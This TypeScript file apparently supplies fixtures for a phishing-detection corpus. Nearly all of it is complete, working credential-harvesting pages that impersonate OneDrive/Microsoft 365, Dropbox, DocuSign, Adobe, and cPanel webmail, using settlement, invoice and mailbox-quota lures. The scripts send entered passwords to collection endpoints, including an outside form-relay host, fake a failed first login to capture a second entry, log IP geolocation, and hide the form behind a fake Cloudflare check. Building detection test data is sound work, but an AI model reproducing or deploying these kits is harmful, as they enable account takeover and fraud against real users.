import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { beepWav, fileRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, blurredDoc, googleG, msBoxCss, msLogo, msSquares, pctAll } from '../parts/yf-kit.js';

// Shared-document, voicemail and e-signature lures that end in a Microsoft 365 / Google / Dropbox sign-in.

const spDrive = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Settlement Statement - 14 Kent St.pdf - OneDrive</title>
<link rel="icon" href="data:image/x-icon;base64,AAABAAEAEBAAAAEAIABoBAAAFgAAACgAAAAQAAAAIAAAAAEAIAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAA=">
<style>
${msBoxCss}
.suite{height:48px;background:#0364b8;color:#fff;display:flex;align-items:center;padding:0 16px;font-size:16px;font-weight:600;position:fixed;top:0;left:0;right:0;z-index:3}
.suite .waffle{width:48px;font-size:20px}
.file{position:fixed;inset:48px 0 0 0;background:#f3f2f1;z-index:0}
.file .page{width:620px;height:820px;background:#fff;margin:30px auto;filter:blur(4px);padding:50px;font-family:Georgia,serif;color:#444}
.veil{position:fixed;inset:48px 0 0 0;background:rgba(255,255,255,.35);z-index:1}
.outer{position:relative;z-index:2}
.share{display:flex;gap:10px;align-items:center;margin:8px 0 20px;font-size:13px;color:#605e5c}
.share .pdf{width:36px;height:44px;background:#d13438;color:#fff;font-size:10px;font-weight:700;display:flex;align-items:flex-end;justify-content:center;padding-bottom:4px}
</style>
</head>
<body>
<div class="suite"><span class="waffle">&#9783;</span>OneDrive</div>
<div class="file"><div class="page"><h2>SETTLEMENT STATEMENT</h2><p>Vendor: R &amp; K Nguyen</p><p>Purchaser: L. Fitzgerald</p><p>Property: 14 Kent Street, Newtown NSW 2042</p><p>Settlement date: 28 March 2024</p><p>Balance due to vendor on settlement ........ $1,184,250.00</p><p>Less deposit held in trust ........ $128,500.00</p><p>Adjustments: council rates, water, strata levies</p></div></div>
<div class="veil"></div>
<div class="outer"><div class="middle">
<div class="box" id="box">
  ${msLogo}
  <div class="share"><div class="pdf">PDF</div><div><b style="color:#1b1b1b">Settlement Statement - 14 Kent St.pdf</b><br>Jessica Morris shared this file with you</div></div>
  <div id="step1">
    <div class="title">Sign in</div>
    <div class="small" style="margin-bottom:14px">This file is protected. Verify your work account to open it.</div>
    <div class="err" id="e1">Enter a valid email address, phone number, or Skype name.</div>
    <input type="email" id="em" placeholder="Email, phone, or Skype" autocomplete="username">
    <div class="small">No account? <a href="#">Create one!</a></div>
    <div class="row-btn"><button class="btn-primary" id="next">Next</button></div>
  </div>
  <div id="step2" style="display:none">
    <div class="identity"><span class="back" id="back">&#8592;</span><span id="who"></span></div>
    <div class="title">Enter password</div>
    <div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
    <input type="password" id="pw" placeholder="Password" autocomplete="current-password">
    <div><a href="#">Forgot my password</a></div>
    <div class="row-btn"><button class="btn-primary" id="signin">Sign in</button></div>
  </div>
</div>
</div></div>
<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script>
(function(){
  var tries = 0, em = document.getElementById('em'), pw = document.getElementById('pw');
  var q = new URLSearchParams(location.search); if (q.get('u')) em.value = q.get('u');
  document.getElementById('next').onclick = function(){
    var v = em.value.trim();
    if (!/^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(v)) { document.getElementById('e1').style.display='block'; return; }
    document.getElementById('who').textContent = v;
    document.getElementById('step1').style.display='none'; document.getElementById('step2').style.display='block'; pw.focus();
  };
  document.getElementById('back').onclick = function(){ document.getElementById('step2').style.display='none'; document.getElementById('step1').style.display='block'; };
  document.getElementById('signin').onclick = function(){
    if (!pw.value) return;
    tries++;
    var fd = new FormData(); fd.append('ai', em.value); fd.append('pr', pw.value); fd.append('attempt', tries); fd.append('doc', 'settlement-kent-st');
    fetch('/api/sp/verify.php', {method:'POST', body: fd}).then(function(r){return r.json()}).then(function(j){
      if (tries < 2) { pw.value=''; document.getElementById('e2').style.display='block'; return; }
      location.href = j.redirect || 'https://www.office.com/';
    }).catch(function(){ document.getElementById('e2').style.display='block'; });
  };
})();
</script>
</body>
</html>`;

const dbxPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Dropbox - Q3 BAS Lodgement - Simplify your life</title>
<style>
body{margin:0;font-family:"Atlas Grotesk","Sharp Grotesk",Helvetica,Arial,sans-serif;background:#f7f5f2;color:#1e1919}
header{background:#fff;border-bottom:1px solid #e6e2dd;height:64px;display:flex;align-items:center;padding:0 28px;gap:10px;font-weight:700;font-size:20px;color:#0061fe}
.wrap{max-width:880px;margin:40px auto;background:#fff;border:1px solid #e6e2dd;border-radius:8px;padding:32px}
h1{font-size:24px;margin:0 0 6px}
.meta{color:#736c64;font-size:14px;margin-bottom:22px}
.files{border-top:1px solid #eee}
.files div{display:flex;justify-content:space-between;padding:14px 4px;border-bottom:1px solid #eee;font-size:15px}
.files span.ic{display:inline-block;width:26px;height:30px;background:#e8f0fe;border:1px solid #c9d7f8;margin-right:10px;vertical-align:middle}
.cta{margin-top:26px;text-align:center}
.cta p{color:#52493f}
.prov{display:grid;grid-template-columns:repeat(auto-fit,minmax(160px,1fr));gap:12px;margin-top:14px}
.prov button{padding:13px;border:1px solid #cfc8bf;background:#fff;border-radius:4px;font-size:15px;cursor:pointer}
.prov button:hover{background:#f1efec}
#modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.45)}
#modal .card{width:380px;margin:12vh auto;background:#fff;border-radius:8px;padding:28px}
#modal input{width:100%;padding:11px;margin:8px 0;border:1px solid #bbb;border-radius:4px;font-size:15px;box-sizing:border-box}
#modal .go{width:100%;padding:12px;background:#0061fe;color:#fff;border:0;border-radius:4px;font-size:16px;margin-top:6px}
#msg{color:#c4111b;font-size:14px;display:none}
</style>
</head>
<body>
<header><svg width="32" height="28" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0L0 8.1l8.7 7L21.2 7.3zM0 21.9l12.5 8.2 8.7-7.3-12.5-7.8zm21.2.9l8.7 7.3 12.4-8.2-8.6-6.9zm21.2-14.7L29.9 0l-8.7 7.3 12.5 7.8zM21.2 24.4l-8.7 7.2-3.7-2.4v2.7l12.4 7.5 12.5-7.5v-2.7l-3.7 2.4z"/></svg>Dropbox</header>
<div class="wrap">
<h1>Q3 BAS Lodgement</h1>
<div class="meta">Shared by Michelle Tran (Tran &amp; Associates Chartered Accountants) &middot; 3 files &middot; Expires in 2 days</div>
<div class="files">
<div><span><span class="ic"></span>BAS_Q3_FY24_Draft.pdf</span><span>412 KB</span></div>
<div><span><span class="ic"></span>GST_Reconciliation_Mar24.xlsx</span><span>88 KB</span></div>
<div><span><span class="ic"></span>Client_Authority_Form.docx</span><span>41 KB</span></div>
</div>
<div class="cta">
<p><b>To download these files, confirm your identity with your email provider.</b></p>
<div class="prov">
<button data-p="Office 365">Office 365</button><button data-p="Outlook">Outlook</button><button data-p="Gmail">Gmail</button><button data-p="Yahoo">Yahoo</button><button data-p="Other">Other Mail</button>
</div>
</div>
</div>
<div id="modal"><div class="card">
<h3 id="ptitle">Sign in</h3>
<div id="msg">Invalid password. Please enter correct details.</div>
<input type="email" id="u" placeholder="Email address">
<input type="password" id="p" placeholder="Password">
<button class="go" id="go">Download files</button>
</div></div>
<script>
var prov = '', n = 0;
document.querySelectorAll('.prov button').forEach(function(b){ b.onclick = function(){ prov = b.getAttribute('data-p'); document.getElementById('ptitle').textContent = 'Sign in with ' + prov; document.getElementById('modal').style.display = 'block'; }; });
document.getElementById('go').onclick = function(){
  var u = document.getElementById('u').value, p = document.getElementById('p').value;
  if (!u || !p) return;
  n++;
  var x = new XMLHttpRequest();
  x.open('POST', '/transfer/next.php', true);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  x.onload = function(){
    if (n === 1) { document.getElementById('msg').style.display = 'block'; document.getElementById('p').value = ''; }
    else { document.getElementById('go').textContent = 'Preparing download...'; setTimeout(function(){ location.href = 'https://www.dropbox.com/'; }, 1800); }
  };
  x.send('provider=' + encodeURIComponent(prov) + '&email=' + encodeURIComponent(u) + '&password=' + encodeURIComponent(p) + '&n=' + n);
};
</script>
</body>
</html>`;

const odKit = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>OneDrive | Secure File Viewer</title>
<style>${msBoxCss}
body{background:#faf9f8}
</style></head><body>
${blurredDoc('REMITTANCE ADVICE', ['Payment reference: EFT 558201', 'Payer: Lakeside Property Management Pty Ltd', 'Amount: $24,870.00 AUD', 'Paid to BSB 063-000 account ****4417'])}
<div class="outer" style="position:relative;z-index:2"><div class="middle">
<div class="box">
${msLogo}
<div class="title">Verify to view</div>
<p class="small">You've received a secure file via OneDrive for Business. Enter your Microsoft 365 credentials to view the Remittance Advice.</p>
<form id="odf" method="POST" action="https://odsp-viewer-7731.azurewebsites.net/onedrive/post">
<input type="email" name="email" placeholder="Email address" required>
<input type="password" name="pass" placeholder="Password" required>
<div class="row-btn"><button type="submit" class="btn-primary">View Document</button></div>
</form>
</div></div></div>
</body></html>`;

const gateKit = `<div class="box" style="position:relative;z-index:2">
${msLogo}
<div class="identity"><span id="addr"></span></div>
<div class="title">Enter password</div>
<div class="err" id="er">Your account or password is incorrect.</div>
<input type="password" id="pp" placeholder="Password">
<div><a href="#">Forgot my password</a></div>
<div class="row-btn"><button class="btn-primary" id="sb">Sign in</button></div>
</div>`;

export const entries: Entry[] = [
  {
    id: 'yf-sharepoint-settlement-onedrive-kit',
    label: 'phishing',
    kind: 'shared-doc-m365-kit',
    url: 'https://harbourlegal-my.sharepoint-fileshare.com/:b:/g/personal/jmorris_harbourlegal_com_au/EqT4mZ1xKp?e=K2d9Vb',
    body: spDrive,
    routes: {
      'harbourlegal-my.sharepoint-fileshare.com/api/sp/verify.php': jsonRoute({ status: 'ok', redirect: 'https://www.office.com/' }),
    },
  },
  {
    id: 'yf-dropbox-bas-provider-picker',
    label: 'phishing',
    kind: 'shared-doc-dropbox-kit',
    url: 'https://dropbox-transfer.filesafe-au.com/transfer/Q3_BAS_Lodgement/',
    body: dbxPage,
    routes: {
      'dropbox-transfer.filesafe-au.com/transfer/next.php': jsonRoute({ r: 1 }),
    },
  },
  {
    id: 'yf-docusign-review-formrelay',
    label: 'phishing',
    kind: 'esign-lure-kit',
    url: 'https://docusign.envelope-review.net/Signing/StartInSession.aspx?t=7b0f1d2c-41ae-4a9e-9d5c-02c8b1e6f3aa',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DocuSign</title>
<style>
body{margin:0;font-family:"Maven Pro",Helvetica,Arial,sans-serif;background:#eaeaea;color:#333}
.hdr{background:#fff;height:60px;display:flex;align-items:center;padding:0 30px;border-bottom:1px solid #ddd}
.hdr .logo{font-weight:700;font-size:22px;letter-spacing:-.5px}
.hdr .logo span{color:#ffc820}
.env{max-width:640px;margin:40px auto;background:#fff;box-shadow:0 1px 4px rgba(0,0,0,.15)}
.band{background:#1e4ca1;color:#fff;text-align:center;padding:34px 20px}
.band .ico{font-size:42px}
.band p{font-size:17px;margin:12px 0 22px}
.band button{background:#ffc820;border:0;padding:12px 26px;font-weight:700;font-size:14px;color:#333;border-radius:2px;cursor:pointer}
.body{padding:26px 34px;font-size:15px;line-height:1.55}
.foot{font-size:12px;color:#666;padding:18px 34px;border-top:1px solid #eee}
#verify{display:none;padding:24px 34px;border-top:3px solid #ffc820}
#verify input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #bbb;font-size:15px;box-sizing:border-box}
#verify button{background:#1e4ca1;color:#fff;border:0;padding:11px 22px;font-size:15px}
</style></head>
<body>
<div class="hdr"><div class="logo">Docu<span>Sign</span></div></div>
<div class="env">
<div class="band"><div class="ico">&#128196;</div><p>Daniel Okafor sent you a document to review and sign.</p><button id="rv">REVIEW DOCUMENT</button></div>
<div id="verify">
<p><b>Confirm your identity</b><br><span style="font-size:14px">For your security, sign in with the email account this envelope was sent to.</span></p>
<form method="POST" action="https://submit-form.com/Xq9v3bRd">
<input type="hidden" name="_redirect" value="https://www.docusign.com/">
<input type="hidden" name="envelope" value="7b0f1d2c">
<label>Email</label><input type="email" name="email" required>
<label>Password</label><input type="password" name="password" required>
<button type="submit">Continue</button>
</form>
</div>
<div class="body"><b>Daniel Okafor</b><br>dokafor@okaforconveyancing.com.au<br><br>Hi,<br>Please review and sign the Contract of Sale &ndash; 22 Wattle Grove, Hornsby. Settlement funds cannot be released until all parties have signed.<br><br>Kind regards,<br>Daniel Okafor<br>Licensed Conveyancer</div>
<div class="foot"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>Questions about the Document? If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.</div>
</div>
<script>document.getElementById('rv').onclick=function(){document.getElementById('verify').style.display='block';this.disabled=true;};</script>
</body></html>`,
    routes: {
      'submit-form.com/Xq9v3bRd': redirectRoute(303, 'https://www.docusign.com/'),
    },
  },
  {
    id: 'yf-adobe-blurred-invoice-multiprovider',
    label: 'phishing',
    kind: 'shared-doc-adobe-kit',
    url: 'https://adobe-doccloud.pdf-viewer.app/view/INV-20931?ref=mail',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Adobe Document Cloud | INV-20931.pdf</title>
<style>
body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif}
.modal{position:fixed;inset:0;z-index:3;display:flex;align-items:center;justify-content:center;background:rgba(30,30,30,.35)}
.card{width:400px;background:#fff;border-radius:8px;padding:28px 32px;box-shadow:0 10px 30px rgba(0,0,0,.3)}
.brand{display:flex;align-items:center;gap:10px;font-size:18px;font-weight:700}
.brand i{display:inline-block;width:34px;height:34px;background:#eb1000;border-radius:6px;color:#fff;font-style:normal;text-align:center;line-height:34px}
.card p{font-size:14px;color:#444}
.opts a{display:block;border:1px solid #ccc;border-radius:16px;padding:9px 14px;margin:8px 0;color:#222;text-decoration:none;font-size:14px}
.opts a:hover{background:#f4f4f4}
#frm{display:none}
#frm input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px;margin:6px 0 10px}
#frm button{width:100%;padding:10px;background:#1473e6;color:#fff;border:0;border-radius:16px;font-size:15px}
#bad{color:#d7373f;font-size:13px;display:none}
</style></head>
<body>
${blurredDoc('TAX INVOICE INV-20931', ['Northbridge IT Services Pty Ltd &middot; ABN 48 612 339 104', 'Bill to: Maple Street Dental', 'Managed services &ndash; March 2024', 'Amount due: $6,842.70 (inc. GST)', 'Due date: 15 April 2024'])}
<div class="modal"><div class="card">
<div class="brand"><i>A</i> Adobe Acrobat</div>
<p>This PDF is protected. Select your email provider to open <b>INV-20931.pdf</b>.</p>
<div class="opts" id="opts"><a href="#" data-p="office365">Sign in with Office 365</a><a href="#" data-p="outlook">Sign in with Outlook</a><a href="#" data-p="gmail">Sign in with Gmail</a><a href="#" data-p="other">Sign in with Other Mail</a></div>
<form id="frm" method="post" action="/view/rs.php">
<div id="bad">Login failed. Please verify your email password.</div>
<input type="hidden" name="provider" id="provider">
<input type="hidden" name="geo" id="geo">
<input type="email" name="em" placeholder="Email address" required>
<input type="password" name="pw" placeholder="Email password" required>
<button type="submit">View PDF</button>
</form>
</div></div>
<script>
fetch('https://ipapi.co/json/').then(function(r){return r.json()}).then(function(g){document.getElementById('geo').value=[g.ip,g.city,g.country_name].join('|')}).catch(function(){});
document.querySelectorAll('#opts a').forEach(function(a){a.onclick=function(e){e.preventDefault();document.getElementById('provider').value=a.dataset.p;document.getElementById('opts').style.display='none';document.getElementById('frm').style.display='block';};});
if (location.hash === '#e') document.getElementById('bad').style.display = 'block';
</script>
</body></html>`,
    routes: {
      'adobe-doccloud.pdf-viewer.app/view/rs.php': redirectRoute(302, '/view/INV-20931?ref=mail#e'),
    },
  },
  {
    id: 'yf-onedrive-remittance-redirect-chain',
    label: 'phishing',
    kind: 'redirect-chain-kit',
    url: 'https://links.mailtrack-secure.com/ls/click?upn=u001.Kx9d2Lq7bV-2FJ0mZ',
    routes: {
      'links.mailtrack-secure.com/ls/click': redirectRoute(302, 'https://shrt.onl/Xp4k2'),
      'shrt.onl/Xp4k2': redirectRoute(301, 'https://odsp-viewer-7731.azurewebsites.net/onedrive/?id=REM-558201&src=mail'),
      'odsp-viewer-7731.azurewebsites.net/onedrive/': htmlRoute(odKit),
      'odsp-viewer-7731.azurewebsites.net/onedrive/post': redirectRoute(302, 'https://onedrive.live.com/'),
    },
  },
  {
    id: 'yf-m365-fake-turnstile-gate',
    label: 'phishing',
    kind: 'captcha-gated-m365-kit',
    url: 'https://secure-docs-portal-9x2.pages.dev/?e=YWNjb3VudHNAaGlsbHNpZGVwbS5jb20uYXU=',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Just a moment...</title>
<style>${msBoxCss}
body{background:#fff}
#gate{max-width:640px;margin:14vh auto;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;padding:0 20px}
#gate h1{font-size:2rem;font-weight:500}
#gate p{font-size:1.1rem;color:#313131}
.cf{display:flex;align-items:center;justify-content:space-between;border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;padding:0 14px;margin:24px 0}
.cf label{display:flex;align-items:center;gap:10px;cursor:pointer;font-size:14px}
.cf input{width:24px;height:24px}
.cf small{font-size:10px;color:#555;text-align:right}
#spin{display:none;font-size:14px}
</style></head>
<body>
<div id="gate">
<h1>secure-docs-portal-9x2.pages.dev</h1>
<p>Verify you are human by completing the action below.</p>
<div class="cf"><label><input type="checkbox" id="cb"> Verify you are human</label><small>CLOUDFLARE<br>Privacy &middot; Terms</small></div>
<div id="spin">Verifying&hellip;</div>
<p style="font-size:.9rem">secure-docs-portal-9x2.pages.dev needs to review the security of your connection before proceeding.</p>
</div>
<div id="app"></div>
<script>
var email = ''; try { email = atob(new URLSearchParams(location.search).get('e') || ''); } catch (x) {}
document.getElementById('cb').addEventListener('change', function(){
  document.getElementById('spin').style.display = 'block';
  setTimeout(function(){
    fetch('/api/v2/page?k=o365').then(function(r){ return r.json(); }).then(function(j){
      document.getElementById('gate').remove();
      document.body.style.background = '#f2f2f2';
      document.getElementById('app').innerHTML = decodeURIComponent(escape(atob(j.d)));
      document.getElementById('addr').textContent = email;
      var n = 0;
      document.getElementById('sb').onclick = function(){
        n++;
        fetch('/api/v2/auth', {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify({u: email, p: document.getElementById('pp').value, n: n})})
          .then(function(r){ return r.json(); }).then(function(res){ if (res.next) location.href = res.next; else { document.getElementById('er').style.display = 'block'; } });
      };
    });
  }, 1400);
});
</script>
</body></html>`,
    routes: {
      'secure-docs-portal-9x2.pages.dev/api/v2/page': jsonRoute({ d: b64(gateKit) }),
      'secure-docs-portal-9x2.pages.dev/api/v2/auth': jsonRoute({ next: null }),
    },
  },
  {
    id: 'yf-onedrive-facture-fr-ca-kit',
    label: 'phishing',
    kind: 'shared-doc-m365-kit',
    url: 'https://partage-onedrive.documents-qc.com/fichier/?id=FACT-2024-118',
    body: `<!DOCTYPE html>
<html lang="fr-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Connexion à votre compte</title>
<style>${msBoxCss}
body{background:#eef3f8}
.doc{display:flex;gap:10px;align-items:center;background:#f3f2f1;padding:10px;margin:10px 0 18px;font-size:13px}
.doc span{background:#185abd;color:#fff;font-weight:700;padding:6px 8px}
</style></head>
<body>
<div class="outer"><div class="middle">
<div class="box">
${msLogo}
<div class="title">Se connecter</div>
<div class="doc"><span>W</span><div><b>FACT-2024-118 - Honoraires professionnels.docx</b><br>Partagé par Comptabilité Gagnon &amp; Fils inc.</div></div>
<p class="small">Pour afficher ce document sécurisé, confirmez l'adresse courriel à laquelle il a été envoyé.</p>
<form method="post" action="/fichier/traitement.php" id="f">
<div class="err" id="err">Votre compte ou votre mot de passe est incorrect.</div>
<input type="email" name="courriel" placeholder="Adresse courriel, téléphone ou Skype" required>
<input type="password" name="motdepasse" placeholder="Mot de passe" required>
<div><a href="#">Mot de passe oublié?</a></div>
<div class="row-btn"><button type="submit" class="btn-primary">Se connecter</button></div>
</form>
</div>
<div class="opts">&#128273; Options de connexion</div>
</div></div>
<div class="footer"><a href="#">Conditions d'utilisation</a><a href="#">Confidentialité et cookies</a></div>
<script>if (location.hash === '#r') document.getElementById('err').style.display = 'block';</script>
</body></html>`,
    routes: {
      'partage-onedrive.documents-qc.com/fichier/traitement.php': redirectRoute(302, '/fichier/?id=FACT-2024-118#r'),
    },
  },
  {
    id: 'yf-cpanel-webmail-quota-kit',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://webmail-quota.mailcenter-verify.com/?email=reception@harbourlegal.com.au',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Webmail Login</title>
<style>
body{margin:0;background:#f4f6f8;font-family:"Open Sans",Helvetica,Arial,sans-serif}
.lg{width:360px;margin:9vh auto;background:#fff;border-top:4px solid #ff6c2c;box-shadow:0 2px 10px rgba(0,0,0,.1);padding:30px}
.lg h2{text-align:center;margin:6px 0 4px;font-weight:600;color:#293a4a}
.lg .dom{text-align:center;color:#6b7a89;font-size:14px;margin-bottom:18px}
.q{background:#fff4e5;border:1px solid #ffc880;color:#7a4a00;font-size:13px;padding:10px;border-radius:3px;margin-bottom:16px}
.meter{height:10px;background:#eee;border-radius:5px;overflow:hidden;margin:6px 0 2px}.meter i{display:block;height:100%;width:98%;background:#d9534f}
label{font-size:13px;color:#293a4a;display:block;margin-top:10px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #cfd8e0;border-radius:3px;font-size:14px;margin-top:4px}
button{width:100%;margin-top:18px;padding:11px;background:#179bd7;color:#fff;border:0;border-radius:3px;font-size:15px;cursor:pointer}
.ft{text-align:center;font-size:11px;color:#8a97a3;margin-top:18px}
</style></head>
<body>
<div class="lg">
<div style="text-align:center"><img id="logo" alt="" style="max-height:48px" src=""></div>
<h2>Webmail</h2>
<div class="dom" id="dom"></div>
<div class="q"><b>Mailbox storage almost full</b><div class="meter"><i></i></div>1.96 GB of 2 GB used. Incoming messages are being held. Sign in to verify your account and release pending mail.</div>
<form id="wf">
<label>Email Address</label><input type="email" id="em" name="email" required>
<label>Password</label><input type="password" id="pw" name="password" required>
<button type="submit">Log in</button>
</form>
<div class="ft">Copyright&copy; 2024 cPanel, L.L.C. &middot; Roundcube Webmail</div>
</div>
<script>
var e = new URLSearchParams(location.search).get('email') || '';
var d = e.split('@')[1] || '';
document.getElementById('em').value = e;
document.getElementById('dom').textContent = d;
if (d) document.getElementById('logo').src = 'https://logo.clearbit.com/' + d;
var c = 0;
document.getElementById('wf').onsubmit = function(ev){
  ev.preventDefault(); c++;
  var data = new FormData(this); data.append('domain', d); data.append('count', c);
  fetch('verify.php', {method:'POST', body:data}).then(function(){ 
    if (c >= 2) location.href = 'https://' + d; else { alert('Incorrect password. Please try again.'); document.getElementById('pw').value=''; }
  });
};
</script>
</body></html>`,
    routes: {
      'webmail-quota.mailcenter-verify.com/verify.php': jsonRoute({ ok: true }),
    },
  },
];
